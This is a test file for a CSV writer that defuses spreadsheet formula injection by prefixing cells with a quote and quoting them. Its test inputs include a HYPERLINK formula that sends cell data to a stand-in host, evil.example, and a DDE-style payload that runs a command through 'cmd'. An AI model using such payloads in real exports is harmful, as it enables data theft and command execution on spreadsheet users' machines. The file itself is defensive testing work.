import { csvCell, csvRow, neutralizeFormula, parseCsv } from '../src';

describe('CSV writer', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a text cell starting with %j with a single quote', (c) => {
    expect(neutralizeFormula(`${c}1+1`)).toBe(`'${c}1+1`);
  });

  it('leaves other text alone, formula characters inside a cell included', () => {
    for (const t of ['', 'spam', 'a=b', 'x-1', "'quoted", ' =lead space', 'é@']) expect(neutralizeFormula(t)).toBe(t);
  });

  it('neutralizes and quotes hostile cells so a spreadsheet shows them as text', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvCell('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(csvCell('+1-2')).toBe(`'+1-2`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('\t=1')).toBe(`'\t=1`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
  });

  it('writes numbers and flags as they are (a negative number keeps its minus), nothing as an empty cell', () => {
    expect(csvRow([-0.25, 3, true, false, null, Number.NaN, Number.POSITIVE_INFINITY])).toBe('-0.25,3,true,false,,,\n');
  });

  it('reads back what it wrote: the same cells, text neutralized', () => {
    const cells = ['=1+2', 'a,"b"\nc', '', 'plain', '@x'];
    const text = csvRow(cells) + csvRow([1, -2, 'z']);
    expect(parseCsv(text)).toEqual([
      ["'=1+2", 'a,"b"\nc', '', 'plain', "'@x"],
      ['1', '-2', 'z'],
    ]);
  });
});
